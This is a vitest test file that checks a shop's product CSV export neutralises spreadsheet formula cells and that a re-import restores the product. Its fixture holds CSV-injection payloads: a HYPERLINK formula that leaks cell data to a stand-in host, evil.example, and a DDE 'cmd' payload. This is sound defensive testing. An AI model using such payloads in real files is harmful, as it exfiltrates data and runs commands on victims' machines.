import { describe, expect, it } from 'vitest';
import { readCsv } from '../../src/modules/imports/csv/parse';
import { importCsv } from '../helpers/imports';
import { adminCall, merchantOf } from '../helpers/merchant';
import { createTestShop } from '../helpers/shop-factory';

/** Every cell of a CSV text, row by row, read with the importer's own reader. */
async function cellsOf(csv: string): Promise<string[][]> {
  const rows: string[][] = [];
  for await (const record of readCsv(new Blob([csv]).stream())) rows.push(record.fields);
  return rows;
}

/** What a spreadsheet runs as a formula when a cell starts with it. */
const FORMULA_START = /^[=+\-@\t\r]/;

const product = {
  title: '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
  slug: 'formula-cells',
  description: "+cmd|' /C calc'!A0",
  status: 'published',
  options: [{ name: '@Size', values: ['-1', "'=2", '+3'] }],
  variants: [
    { option_values: ['-1'], price: 500, sku: '=SKU()', stock: 1 },
    { option_values: ["'=2"], price: 500, sku: "'@quoted", stock: 1 },
    { option_values: ['+3'], price: 500, sku: 'plain', stock: 1 },
  ],
};

describe('the product CSV export guards formula cells; the import restores them', () => {
  it('writes no cell a spreadsheet would run, and a round trip gives the same product', async () => {
    const source = await createTestShop();
    const { key } = await merchantOf(source);
    const created = await adminCall('/products', {
      method: 'POST',
      body: product,
      headers: { authorization: `Bearer ${key.secret}` },
    });
    expect(created.status, JSON.stringify(created.body)).toBe(201);

    const exported = await adminCall('/exports/products', {
      headers: { authorization: `Bearer ${key.secret}` },
    });
    expect(exported.status).toBe(200);
    const csv = String(exported.body);
    const rows = await cellsOf(csv);
    const header = rows[0] ?? [];
    const first = rows[1] ?? [];
    expect(first[header.indexOf('Title')]).toBe(`'${product.title}`);
    expect(first[header.indexOf('Body (HTML)')]).toBe(`'${product.description}`);
    expect(first[header.indexOf('Option1 Name')]).toBe("'@Size");
    const dangerous = rows.flat().filter((cell) => FORMULA_START.test(cell));
    expect(dangerous).toEqual([]);

    const target = await createTestShop();
    const { key: importer } = await merchantOf(target);
    const done = await importCsv(importer.secret, csv);
    expect(done.errors).toEqual([]);
    expect(done).toMatchObject({ status: 'completed', created: 1, failed: 0 });
    const list = await adminCall('/products', {
      headers: { authorization: `Bearer ${importer.secret}` },
    });
    const [imported] = list.body.data;
    expect(imported).toMatchObject({
      title: product.title,
      description: product.description,
      options: [{ name: '@Size', values: [{ value: '-1' }, { value: "'=2" }, { value: '+3' }] }],
    });
    expect(
      imported.variants.map((v: { option_values: string[]; sku: string }) => [
        v.option_values,
        v.sku,
      ]),
    ).toEqual(product.variants.map((v) => [v.option_values, v.sku]));
  });
});
